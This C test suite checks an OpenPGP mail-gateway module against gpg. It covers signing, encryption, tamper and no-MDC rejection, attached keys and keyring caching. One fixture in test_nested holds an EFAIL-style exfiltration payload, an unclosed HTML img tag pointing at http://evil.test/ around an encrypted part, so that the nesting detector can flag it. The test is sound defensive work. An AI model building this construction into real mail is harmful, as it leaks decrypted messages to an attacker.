/*
 * OpenPGP (pgp.c) against the gpg command line as the other party: the
 * gateway's home has alice's key pair and bob's public key, bob's home
 * the reverse. What pgp.c signs and encrypts, gpg verifies and decrypts;
 * what gpg makes, pgp.c decrypts and verifies; a tampered, a foreign
 * and an unprotected (no MDC) message get what they deserve.
 */
#include <sys/stat.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "buf.h"
#include "mime.h"
#include "pgp.h"
#include "test.h"
#include "util.h"

static const char msg[] = "From: <alice@example.test>\r\n"
    "To: <bob@remote.test>\r\nSubject: hello\r\n"
    "Content-Type: text/plain; charset=utf-8\r\n"
    "Content-Transfer-Encoding: 8bit\r\n\r\nGr\xc3\xbc\xc3\x9f" "e\r\n"
    "From the start\r\n";

static char	 dir[] = "/tmp/osms-test-pgp.XXXXXX";
static char	 gw[64], peer[64];

static int
sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int
sh(const char *fmt, ...)
{
	char	 cmd[4096];
	va_list	 ap;
	int	 rc;

	va_start(ap, fmt);
	(void)vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	rc = system(cmd);
	return rc == 0 ? 0 : -1;
}

#define GPG	"gpg --batch --yes --no-tty --quiet --pinentry-mode loopback " \
		"--passphrase '' --trust-model always"

static void
write_file(const char *name, const void *data, size_t len)
{
	char	 path[256];
	FILE	*fp;

	(void)snprintf(path, sizeof(path), "%s/%s", dir, name);
	if ((fp = fopen(path, "wb")) == NULL || fwrite(data, 1, len, fp) !=
	    len || fclose(fp) != 0)
		abort();
}

static char *
read_file(const char *name, size_t *len)
{
	char	 path[256];

	(void)snprintf(path, sizeof(path), "%s/%s", dir, name);
	return test_get_file(AT_FDCWD, path, len);
}

static void
setup(void)
{
	if (mkdtemp(dir) == NULL)
		abort();
	(void)snprintf(gw, sizeof(gw), "%s/gw", dir);
	(void)snprintf(peer, sizeof(peer), "%s/peer", dir);
	if (mkdir(gw, 0700) == -1 || mkdir(peer, 0700) == -1)
		abort();
	if (sh(GPG " --homedir %s --quick-gen-key 'Alice <alice@example.test>'"
	    " future-default default never 2>/dev/null", gw) == -1 ||
	    sh(GPG " --homedir %s --quick-gen-key 'Bob <bob@remote.test>'"
	    " future-default default never 2>/dev/null", peer) == -1 ||
	    sh(GPG " --homedir %s --quick-gen-key 'Mallory <mallory@evil.test>'"
	    " future-default default never 2>/dev/null", peer) == -1 ||
	    sh(GPG " --homedir %s --export alice@example.test | "
	    GPG " --homedir %s --import 2>/dev/null", gw, peer) == -1 ||
	    sh(GPG " --homedir %s --export bob@remote.test | "
	    GPG " --homedir %s --import 2>/dev/null", peer, gw) == -1)
		abort();
}

/* Part i (1 or 2) of the two-part message m, raw, into name. */
static void
save_part(const struct buf *m, int i, int body_only, const char *name)
{
	struct mime_msg		*mm;
	const struct mime_part	*p;
	const char		*err;

	if ((mm = mime_parse(m->data, m->len, &err)) == NULL ||
	    mime_root(mm)->nchildren != 2)
		abort();
	p = &mime_root(mm)->children[i - 1];
	if (body_only)
		write_file(name, m->data + p->body_off, p->body_len);
	else
		write_file(name, m->data + p->hdr_off, p->body_off +
		    p->body_len - p->hdr_off);
	mime_free(mm);
}

static void
test_keys(void)
{
	char		 fpr[PGP_MAX_FPR + 1];
	const char	*err;

	test_begin("pgp: the home's keys, by address");
	test_assert(pgp_init(gw, &err) == 0);
	test_assert(pgp_key_for("alice@example.test", 1, fpr,
	    sizeof(fpr)) == 0 && strlen(fpr) == 40);
	test_assert(pgp_key_for("ALICE@example.test", 1, fpr,
	    sizeof(fpr)) == 0);
	test_assert(pgp_key_for("bob@remote.test", 0, fpr, sizeof(fpr)) == 0);
	/* bob's secret key is not here; nobody is mallory here */
	test_assert(pgp_key_for("bob@remote.test", 1, fpr, sizeof(fpr)) == -1);
	test_assert(pgp_key_for("mallory@evil.test", 0, fpr,
	    sizeof(fpr)) == -1);
	test_assert(pgp_key_for("example.test", 0, fpr, sizeof(fpr)) == -1);
	test_end();
}

static void
test_sign(void)
{
	struct buf		 out = BUF_INIT(PGP_MAX_MESSAGE);
	struct pgp_verdict	 v;
	char			 alice[PGP_MAX_FPR + 1];
	const char		*err;

	test_begin("pgp: signed here, gpg verifies; tampered, it fails");
	test_assert(pgp_key_for("alice@example.test", 1, alice,
	    sizeof(alice)) == 0);
	test_assert(pgp_sign(msg, sizeof(msg) - 1, alice, &out, &err) == 0);
	test_assert(buf_addc(&out, '\0') == 0);
	test_assert(strstr(out.data, "Subject: hello\r\n") != NULL);
	test_assert(strstr(out.data, "multipart/signed; micalg=pgp-sha") !=
	    NULL);
	test_assert(strstr(out.data, "protocol=\"application/pgp-signature"
	    "\"") != NULL);
	/* 8bit content became quoted-printable before it was signed */
	test_assert(strstr(out.data, "Gr=C3=BC=C3=9Fe") != NULL);
	out.len--;
	save_part(&out, 1, 0, "signed.txt");
	save_part(&out, 2, 1, "sig.asc");
	test_assert(sh(GPG " --homedir %s --verify %s/sig.asc %s/signed.txt"
	    " 2>/dev/null", peer, dir, dir) == 0);
	test_assert(pgp_verify(out.data, out.len, &v, &err) == 0 &&
	    v.result == PGP_VERIFIED && strcmp(v.signer,
	    "alice@example.test") == 0 && strcmp(v.fpr, alice) == 0);
	/* One byte of the content changed. */
	out.data[strstr(out.data, "From the start") - out.data] = 'f';
	test_assert(pgp_verify(out.data, out.len, &v, &err) == 0 &&
	    v.result == PGP_FAILED &&
	    strcmp(v.reason, "the signature does not verify") == 0);
	test_assert(pgp_verify(msg, sizeof(msg) - 1, &v, &err) == 0 &&
	    v.result == PGP_NOT_SIGNED);
	buf_free(&out);
	test_end();
}

static void
test_encrypt(void)
{
	struct buf	 out = BUF_INIT(PGP_MAX_MESSAGE);
	char		 alice[PGP_MAX_FPR + 1], bob[PGP_MAX_FPR + 1], *plain;
	const char	*to[1], *err;
	size_t		 n;

	test_begin("pgp: encrypted and signed here, gpg decrypts and "
	    "verifies");
	test_assert(pgp_key_for("alice@example.test", 1, alice,
	    sizeof(alice)) == 0);
	test_assert(pgp_key_for("bob@remote.test", 0, bob, sizeof(bob)) == 0);
	to[0] = bob;
	test_assert(pgp_encrypt(msg, sizeof(msg) - 1, to, 1, alice, &out,
	    &err) == 0);
	test_assert(pgp_is_encrypted(out.data, out.len));
	test_assert(buf_addc(&out, '\0') == 0);
	test_assert(strstr(out.data, "Subject: hello\r\n") != NULL);
	test_assert(strstr(out.data, "From the start") == NULL);
	test_assert(strstr(out.data, "-----BEGIN PGP MESSAGE-----") != NULL);
	out.len--;
	save_part(&out, 2, 1, "enc.asc");
	test_assert(sh(GPG " --homedir %s --status-file %s/status -o "
	    "%s/plain.txt --decrypt %s/enc.asc 2>/dev/null", peer, dir, dir,
	    dir) == 0);
	plain = read_file("plain.txt", &n);
	test_assert(plain != NULL && strstr(plain, "Content-Type: text/plain;"
	    " charset=utf-8\r\n") == plain && strstr(plain,
	    "Gr\xc3\xbc\xc3\x9f" "e\r\nFrom the start") != NULL);
	free(plain);
	plain = read_file("status", &n);
	test_assert(plain != NULL && strstr(plain, "[GNUPG:] GOODSIG") != NULL);
	free(plain);
	/* A key not in the keyring is no recipient. */
	to[0] = "0000000000000000000000000000000000000000";
	test_assert(pgp_encrypt(msg, sizeof(msg) - 1, to, 1, NULL, &out,
	    &err) == -1);
	buf_free(&out);
	test_end();
}

/* A PGP/MIME message around what gpg made of entity.txt. */
static void
wrap(struct buf *m, const char *armored, size_t len)
{
	buf_reset(m);
	(void)buf_addstr(m, "From: <bob@remote.test>\r\nTo: <alice@example."
	    "test>\r\nSubject: secret\r\nMIME-Version: 1.0\r\nContent-Type: "
	    "multipart/encrypted; protocol=\"application/pgp-encrypted\";\r\n"
	    "\tboundary=\"b\"\r\n\r\n--b\r\nContent-Type: application/"
	    "pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\nContent-Type: "
	    "application/octet-stream\r\n\r\n");
	(void)buf_add(m, armored, len);
	(void)buf_addstr(m, "\r\n--b--\r\n");
}

/* A PGP/MIME multipart/signed message from from: entity, and signer's
 * detached signature over it made by gpg. */
static void
signed_by(struct buf *m, const char *from, const char *entity, size_t len,
    const char *signer)
{
	char	*sig;
	size_t	 n;

	write_file("s.txt", entity, len);
	test_assert(sh(GPG " --homedir %s --armor -u %s --detach-sign -o "
	    "%s/s.asc %s/s.txt", peer, signer, dir, dir) == 0);
	sig = read_file("s.asc", &n);
	test_assert(sig != NULL);
	buf_reset(m);
	(void)buf_printf(m, "From: <%s>\r\nSubject: s\r\nMIME-Version: 1.0"
	    "\r\nContent-Type: multipart/signed; micalg=pgp-sha256;\r\n\t"
	    "protocol=\"application/pgp-signature\"; boundary=\"b\"\r\n\r\n"
	    "--b\r\n", from);
	(void)buf_add(m, entity, len);
	(void)buf_addstr(m, "\r\n--b\r\nContent-Type: application/pgp-"
	    "signature\r\n\r\n");
	if (sig != NULL)
		(void)buf_add(m, sig, n);
	(void)buf_addstr(m, "\r\n--b--\r\n");
	free(sig);
}

static void
test_decrypt(void)
{
	static const char entity[] = "Content-Type: text/plain\r\n\r\n"
	    "from bob, signed\r\n";
	struct buf		 m = BUF_INIT(PGP_MAX_MESSAGE);
	struct buf		 out = BUF_INIT(PGP_MAX_MESSAGE);
	struct pgp_verdict	 v;
	const char		*err, *for_[1] = { "alice@example.test" };
	const char		*bob_only[1] = { "bob@remote.test" };
	char			*armored, who[256];
	size_t			 n;

	test_begin("pgp: gpg's PGP/MIME decrypted here, its signature "
	    "verified; foreign, damaged and unprotected ones refused");
	write_file("entity.txt", entity, sizeof(entity) - 1);
	test_assert(sh(GPG " --homedir %s --armor -u bob@remote.test -r "
	    "alice@example.test --sign --encrypt -o %s/e.asc %s/entity.txt",
	    peer, dir, dir) == 0);
	armored = read_file("e.asc", &n);
	test_assert(armored != NULL);
	wrap(&m, armored, n);
	free(armored);
	test_assert(pgp_is_encrypted(m.data, m.len));
	test_assert(pgp_decrypt(m.data, m.len, for_, 1, who, sizeof(who),
	    &out, &v, &err) == 0 && strcmp(who, "alice@example.test") == 0);
	test_assert(buf_addc(&out, '\0') == 0);
	test_assert(strstr(out.data, "Subject: secret\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: text/plain\r\n\r\nfrom bob, signed\r\n") != NULL);
	test_assert(strstr(out.data, "multipart/encrypted") == NULL);
	test_assert(v.result == PGP_VERIFIED &&
	    strcmp(v.signer, "bob@remote.test") == 0);
	/* For alice's key, but alice is not among the recipients. */
	buf_reset(&out);
	test_assert(pgp_decrypt(m.data, m.len, bob_only, 1, who, sizeof(who),
	    &out, &v, &err) == -1 && strcmp(err, "not encrypted for a key of "
	    "its recipients") == 0 && out.len == 0);
	/* For alice and bob, but encrypted to alice alone: bob must not
	 * read it (EFAIL's decryption oracle). */
	{
		const char	*both[2] = { "alice@example.test",
		    "bob@remote.test" };

		test_assert(pgp_decrypt(m.data, m.len, both, 2, who,
		    sizeof(who), &out, &v, &err) == -1 && strcmp(err,
		    "not encrypted for a key of its recipients") == 0 &&
		    out.len == 0);
	}
	/* Encrypted for mallory, not for a key here. */
	buf_reset(&out);
	test_assert(sh(GPG " --homedir %s --armor -r mallory@evil.test "
	    "--encrypt -o %s/m.asc %s/entity.txt", peer, dir, dir) == 0);
	armored = read_file("m.asc", &n);
	wrap(&m, armored, n);
	test_assert(pgp_decrypt(m.data, m.len, NULL, 0, who, sizeof(who),
	    &out, &v, &err) == -1 && strcmp(err, "cannot decrypt: not for a "
	    "key here, or damaged") == 0 && out.len == 0);
	/* Damaged: a line of the armor changed. */
	armored[n / 2] = armored[n / 2] == 'A' ? 'B' : 'A';
	wrap(&m, armored, n);
	free(armored);
	test_assert(pgp_decrypt(m.data, m.len, NULL, 0, who, sizeof(who),
	    &out, &v, &err) == -1);
	/* No MDC (gpg --rfc2440): the plaintext could be malleated. */
	test_assert(sh(GPG " --homedir %s --armor --rfc2440 -r "
	    "alice@example.test --encrypt -o %s/n.asc %s/entity.txt "
	    "2>/dev/null", peer, dir, dir) == 0);
	armored = read_file("n.asc", &n);
	wrap(&m, armored, n);
	free(armored);
	test_assert(pgp_decrypt(m.data, m.len, NULL, 0, who, sizeof(who),
	    &out, &v, &err) == -1 && out.len == 0);
	if (err != PGP_NO_MDC)
		printf("# no MDC: %s\n", err);
	test_assert(err == PGP_NO_MDC);
	/* Inline: a text/plain body that is one armored message. */
	test_assert(sh(GPG " --homedir %s --armor -r alice@example.test "
	    "--encrypt -o %s/i.asc %s/entity.txt", peer, dir, dir) == 0);
	armored = read_file("i.asc", &n);
	buf_reset(&m);
	(void)buf_addstr(&m, "From: <bob@remote.test>\r\nSubject: inline\r\n"
	    "Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\n"
	    "\r\n\r\n");
	(void)buf_add(&m, armored, n);
	test_assert(pgp_is_inline(m.data, m.len));
	buf_reset(&out);
	test_assert(pgp_decrypt_inline(m.data, m.len, for_, 1, who,
	    sizeof(who), &out, &v, &err) == 0);
	test_assert(buf_addc(&out, '\0') == 0);
	test_assert(strstr(out.data, "Subject: inline\r\nContent-Type: "
	    "text/plain\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	    "Content-Type: text/plain\r\n\r\nfrom bob, signed\r\n") != NULL);
	/* Text around the block: not inline (nothing is joined to it). */
	buf_reset(&m);
	(void)buf_addstr(&m, "Content-Type: text/plain\r\n\r\nclick here\r\n");
	(void)buf_add(&m, armored, n);
	test_assert(!pgp_is_inline(m.data, m.len));
	free(armored);
	test_assert(!pgp_is_encrypted(msg, sizeof(msg) - 1));
	test_assert(pgp_decrypt(msg, sizeof(msg) - 1, NULL, 0, who,
	    sizeof(who), &out, &v, &err) == -1);
	buf_free(&m);
	buf_free(&out);
	test_end();
}

static void
test_verify_peer(void)
{
	static const char entity[] = "Content-Type: text/plain\r\n\r\n"
	    "signed by bob\r\n";
	struct buf		 m = BUF_INIT(PGP_MAX_MESSAGE);
	struct pgp_verdict	 v;
	const char		*err;

	test_begin("pgp: gpg's multipart/signed verified here; by a key "
	    "not here, it fails");
	signed_by(&m, "bob@remote.test", entity, sizeof(entity) - 1,
	    "bob@remote.test");
	test_assert(pgp_verify(m.data, m.len, &v, &err) == 0 &&
	    v.result == PGP_VERIFIED && strcmp(v.signer, "bob@remote.test") ==
	    0);
	signed_by(&m, "bob@remote.test", entity, sizeof(entity) - 1,
	    "mallory@evil.test");
	test_assert(pgp_verify(m.data, m.len, &v, &err) == 0 &&
	    v.result == PGP_FAILED && strncmp(v.reason, "signed by a key not "
	    "in the keyring", 33) == 0);
	buf_free(&m);
	test_end();
}

/* A message from mallory: text and a key (armored, in base64) that
 * signer signed, as PGP/MIME. */
static void
keyed_message(struct buf *m, const char *key_of, const char *signer,
    int corrupt)
{
	struct buf	 e = BUF_INIT(PGP_MAX_MESSAGE);
	char		*key, *b64;
	size_t		 n, bn;

	test_assert(sh(GPG " --homedir %s --armor --export %s > %s/k.asc",
	    peer, key_of, dir) == 0);
	key = read_file("k.asc", &n);
	test_assert(key != NULL);
	if (corrupt)	/* one base64 letter of the key: the checksum fails */
		key[strstr(key, "\n\n") + 40 - key] ^= 0x01;
	b64 = malloc(n * 2 + 4);
	bn = (size_t)base64_encode(key, n, b64, n * 2 + 4);
	(void)buf_addstr(&e, "Content-Type: multipart/mixed; boundary=\"m\""
	    "\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nmy key is "
	    "attached\r\n--m\r\nContent-Type: application/pgp-keys; name="
	    "\"k.asc\"\r\nContent-Transfer-Encoding: base64\r\n\r\n");
	(void)buf_add(&e, b64, bn);
	(void)buf_addstr(&e, "\r\n--m--\r\n");
	free(b64);
	free(key);
	signed_by(m, "mallory@evil.test", e.data, e.len, signer);
	buf_free(&e);
}

static void
test_attached(void)
{
	static const char forwarded[] = "From: <x@evil.test>\r\n"
	    "Content-Type: message/rfc822\r\n\r\nFrom: <y@evil.test>\r\n"
	    "Content-Type: application/pgp-keys\r\n\r\n-----BEGIN PGP "
	    "PUBLIC KEY BLOCK-----\r\n";
	struct buf		 m = BUF_INIT(PGP_MAX_MESSAGE);
	struct buf		 key = BUF_INIT(PGP_MAX_KEY);
	struct pgp_verdict	 v;
	const char		*err;
	char			 fpr[PGP_MAX_FPR + 1], cmd[300];

	test_begin("pgp: a key attached to mail is found and dearmored; the "
	    "message's signature checked with it alone");
	keyed_message(&m, "mallory@evil.test", "mallory@evil.test", 0);
	test_assert(pgp_attached_key(m.data, m.len, &key) == 1 &&
	    (key.data[0] & 0x80) != 0);
	test_assert(pgp_offered(key.data, key.len, "mallory@evil.test", fpr,
	    sizeof(fpr), &err) == 0 && strlen(fpr) == 40);
	/* Not in the home: a signature by a key it does not have. */
	test_assert(pgp_verify(m.data, m.len, &v, &err) == 0 &&
	    v.result == PGP_FAILED);
	test_assert(pgp_verify_with(m.data, m.len, NULL, key.data, key.len,
	    dir, &v, &err) == 0 && v.result == PGP_VERIFIED &&
	    strcmp(v.signer, "mallory@evil.test") == 0);
	/* The scratch home is gone, and the home did not take the key. */
	(void)snprintf(cmd, sizeof(cmd), "test -z \"$(ls -A %s | grep "
	    "verify)\"", dir);
	test_assert(system(cmd) == 0);
	test_assert(pgp_key_for("mallory@evil.test", 0, fpr, sizeof(fpr)) ==
	    -1);
	/* bob's key, signed by mallory: the key did not sign it. */
	keyed_message(&m, "bob@remote.test", "mallory@evil.test", 0);
	buf_reset(&key);
	test_assert(pgp_attached_key(m.data, m.len, &key) == 1);
	test_assert(pgp_verify_with(m.data, m.len, NULL, key.data, key.len,
	    dir, &v, &err) == 0 && v.result == PGP_FAILED);
	/* A changed letter: the armor's checksum says so. */
	keyed_message(&m, "mallory@evil.test", "mallory@evil.test", 1);
	buf_reset(&key);
	test_assert(pgp_attached_key(m.data, m.len, &key) == -1 &&
	    key.len == 0);
	/* Not a key at all; none; one inside a forwarded message. */
	test_assert(pgp_verify_with(m.data, m.len, NULL, "junk", 4, dir,
	    &v, &err) == -1);
	test_assert(pgp_attached_key(msg, sizeof(msg) - 1, &key) == 0);
	test_assert(pgp_attached_key(forwarded, sizeof(forwarded) - 1,
	    &key) == 0);
	buf_free(&key);
	buf_free(&m);
	test_end();
}

/* Signed inside the encryption by a key not here, which came inside:
 * the session key lets that key alone check the signature. */
static void
test_attached_inside(void)
{
	struct buf		 e = BUF_INIT(PGP_MAX_MESSAGE);
	struct buf		 m = BUF_INIT(PGP_MAX_MESSAGE);
	struct buf		 out = BUF_INIT(PGP_MAX_MESSAGE);
	struct buf		 key = BUF_INIT(PGP_MAX_KEY);
	struct pgp_verdict	 v, v2;
	const char		*err, *for_[] = { "alice@example.test" };
	char			 who[256], *arm, *k;
	size_t			 n, kn;

	test_begin("pgp: a key attached inside the encryption checks the "
	    "signature inside, by the session key");
	test_assert(sh(GPG " --homedir %s --armor --export mallory@evil.test "
	    "> %s/k.asc", peer, dir) == 0);
	k = read_file("k.asc", &kn);
	(void)buf_addstr(&e, "Content-Type: multipart/mixed; boundary=\"m\""
	    "\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nsealed, my key "
	    "inside\r\n--m\r\nContent-Type: application/pgp-keys\r\n\r\n");
	(void)buf_add(&e, k, kn);
	(void)buf_addstr(&e, "\r\n--m--\r\n");
	free(k);
	write_file("in.txt", e.data, e.len);
	test_assert(sh(GPG " --homedir %s --armor -u mallory@evil.test -r "
	    "alice@example.test --sign --encrypt -o %s/in.asc %s/in.txt", peer,
	    dir, dir) == 0);
	arm = read_file("in.asc", &n);
	wrap(&m, arm, n);
	free(arm);
	test_assert(pgp_decrypt(m.data, m.len, for_, 1, who, sizeof(who), &out,
	    &v, &err) == 0 && v.result == PGP_FAILED && v.unknown_signer &&
	    strchr(v.session, ':') != NULL);
	test_assert(pgp_attached_key(out.data, out.len, &key) == 1);
	test_assert(pgp_verify_with(m.data, m.len, v.session, key.data,
	    key.len, dir, &v2, &err) == 0 && v2.result == PGP_VERIFIED &&
	    strcmp(v2.signer, "mallory@evil.test") == 0);
	/* A wrong session key decrypts nothing. */
	v.session[strlen(v.session) - 1] ^= 0x01;
	test_assert(pgp_verify_with(m.data, m.len, v.session, key.data,
	    key.len, dir, &v2, &err) == -1 && v2.result != PGP_VERIFIED);
	/* Signed by a key here: no session key kept. */
	test_assert(sh(GPG " --homedir %s --armor -u bob@remote.test -r "
	    "alice@example.test --sign --encrypt -o %s/in2.asc %s/in.txt",
	    peer, dir, dir) == 0);
	arm = read_file("in2.asc", &n);
	wrap(&m, arm, n);
	free(arm);
	buf_reset(&out);
	test_assert(pgp_decrypt(m.data, m.len, for_, 1, who, sizeof(who), &out,
	    &v, &err) == 0 && v.result == PGP_VERIFIED && v.session[0] == '\0');
	buf_free(&e);
	buf_free(&m);
	buf_free(&out);
	buf_free(&key);
	test_end();
}

/* Keys found are kept, but a change of the home's keyrings by another
 * process (osmsctl pgp, here gpg) is seen at once. */
static void
test_cache(void)
{
	char		 fpr[PGP_MAX_FPR + 1], fpr2[PGP_MAX_FPR + 1];

	test_begin("pgp: keys kept between lookups, forgotten when the "
	    "keyrings change");
	test_assert(pgp_key_for("mallory@evil.test", 0, fpr, sizeof(fpr)) ==
	    -1);
	test_assert(sh(GPG " --homedir %s --export mallory@evil.test | "
	    GPG " --homedir %s --import 2>/dev/null", peer, gw) == 0);
	test_assert(pgp_key_for("mallory@evil.test", 0, fpr, sizeof(fpr)) ==
	    0);
	test_assert(pgp_key_for("Mallory@Evil.test", 0, fpr2, sizeof(fpr2)) ==
	    0 && strcmp(fpr, fpr2) == 0);
	test_assert(sh(GPG " --homedir %s --delete-keys %s", gw, fpr) == 0);
	test_assert(pgp_key_for("mallory@evil.test", 0, fpr, sizeof(fpr)) ==
	    -1);
	/* A secret key gone (its file in private-keys-v1.d/) is seen too. */
	test_assert(pgp_key_for("alice@example.test", 1, fpr, sizeof(fpr)) ==
	    0);
	test_assert(sh(GPG " --homedir %s --export-secret-keys --armor "
	    "alice@example.test > %s/alice.sec && " GPG " --homedir %s "
	    "--delete-secret-keys %s", gw, dir, gw, fpr) == 0);
	test_assert(pgp_key_for("alice@example.test", 1, fpr2, sizeof(fpr2)) ==
	    -1);
	test_assert(sh(GPG " --homedir %s --import %s/alice.sec 2>/dev/null",
	    gw, dir) == 0);
	test_assert(pgp_key_for("alice@example.test", 1, fpr2, sizeof(fpr2)) ==
	    0 && strcmp(fpr, fpr2) == 0);
	test_end();
}

/* A key from mail keeps only the user IDs of its address: another one
 * (a domain, a second address) would let its sender speak for others. */
static void
test_import_for(void)
{
	char		 fpr[PGP_MAX_FPR + 1], *k;
	const char	*err;
	size_t		 n;

	test_begin("pgp: a key from mail is imported with its address's user "
	    "IDs only");
	test_assert(sh(GPG " --homedir %s --quick-gen-key '<m2@evil.test>' "
	    "future-default default never 2>/dev/null && "
	    "fpr=$(" GPG " --homedir %s --with-colons --list-keys m2@evil.test"
	    " | awk -F: '/^fpr/ { print $10; exit }') && " GPG " --homedir %s "
	    "--quick-add-uid $fpr '<evil.test>' 2>/dev/null && " GPG
	    " --homedir %s --quick-add-uid $fpr 'M <other@example.test>' "
	    "2>/dev/null && " GPG " --homedir %s --export m2@evil.test > "
	    "%s/m2.gpg", peer, peer, peer, peer, peer, dir) == 0);
	k = read_file("m2.gpg", &n);
	test_assert(k != NULL);
	test_assert(pgp_import_for(k, n, "not an address", &err) == -1);
	test_assert(pgp_import_for(k, n, "M2@Evil.test", &err) == 0);
	test_assert(pgp_key_for("m2@evil.test", 0, fpr, sizeof(fpr)) == 0 &&
	    pgp_key_names(fpr, "M2@evil.TEST") && !pgp_key_names(fpr,
	    "evil.test") && !pgp_key_names(fpr, "") && !pgp_key_names("",
	    "m2@evil.test"));
	test_assert(pgp_key_for("m2@evil.test", 0, fpr, sizeof(fpr)) == 0);
	test_assert(pgp_key_for("evil.test", 0, fpr, sizeof(fpr)) == -1);
	test_assert(pgp_key_for("other@example.test", 0, fpr, sizeof(fpr)) ==
	    -1);
	/* A plain import afterwards keeps every user ID again. */
	test_assert(pgp_key_for("m2@evil.test", 0, fpr, sizeof(fpr)) == 0 &&
	    pgp_delete(fpr, &err) == 0);
	test_assert(pgp_import(k, n, NULL, NULL, &err) == 1);
	test_assert(pgp_key_for("evil.test", 0, fpr, sizeof(fpr)) == 0 &&
	    pgp_key_names(fpr, "other@example.test") &&
	    pgp_key_names(fpr, "evil.test") && pgp_delete(fpr, &err) == 0);
	free(k);
	test_end();
}

static void
test_nested(void)
{
	static const char root[] = "Content-Type: multipart/encrypted; "
	    "protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n"
	    "--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
	    "\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n"
	    "--e--\r\n";
	static const char efail[] = "Content-Type: multipart/mixed; boundary="
	    "\"m\"\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=\""
	    "http://evil.test/\r\n--m\r\nContent-Type: multipart/encrypted; "
	    "protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n"
	    "--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
	    "\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n"
	    "--e--\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n";
	static const char quoted[] = "Content-Type: multipart/mixed; boundary="
	    "\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
	    "-----BEGIN PGP MESSAGE-----\r\nx\r\n-----END PGP MESSAGE-----\r\n"
	    "--m--\r\n";

	test_begin("pgp: an OpenPGP message below the top is found (EFAIL)");
	test_assert(pgp_has_nested(root, sizeof(root) - 1) == 0);
	test_assert(pgp_has_nested(efail, sizeof(efail) - 1) == 1);
	test_assert(pgp_has_nested(quoted, sizeof(quoted) - 1) == 1);
	test_assert(pgp_has_nested(msg, sizeof(msg) - 1) == 0);
	test_end();
}

static void
test_domain_key(void)
{
	char		 fpr[PGP_MAX_FPR + 1], fpr2[PGP_MAX_FPR + 1];
	const char	*err;

	test_begin("pgp: a gateway's key for a domain, user ID <domain>");
	test_assert(pgp_keygen("example.test", fpr, sizeof(fpr), &err) == 0);
	test_assert(pgp_key_for("example.test", 1, fpr2, sizeof(fpr2)) == 0 &&
	    strcmp(fpr, fpr2) == 0);
	test_assert(pgp_key_for("EXAMPLE.test", 0, fpr2, sizeof(fpr2)) == 0);
	/* The domain is not an address of it, nor a name that widens */
	test_assert(pgp_key_for("x@example.test", 0, fpr2, sizeof(fpr2)) ==
	    -1);
	test_assert(pgp_keygen("localhost", fpr2, sizeof(fpr2), &err) == -1);
	test_assert(pgp_keygen("a@b@example.test", fpr2, sizeof(fpr2),
	    &err) == -1);
	test_assert(pgp_key_for(".example.test", 0, fpr2, sizeof(fpr2)) ==
	    -1);
	test_assert(pgp_delete(fpr, &err) == 0);
	test_assert(pgp_key_for("example.test", 0, fpr2, sizeof(fpr2)) == -1);
	test_end();
}

int
main(void)
{
	setup();
	test_keys();
	test_sign();
	test_encrypt();
	test_decrypt();
	test_verify_peer();
	test_attached();
	test_attached_inside();
	test_cache();
	test_import_for();
	test_nested();
	test_domain_key();
	pgp_done();
	(void)sh("GNUPGHOME=%s gpgconf --kill all; GNUPGHOME=%s gpgconf "
	    "--kill all; rm -rf %s", gw, peer, dir);
	return test_exit();
}
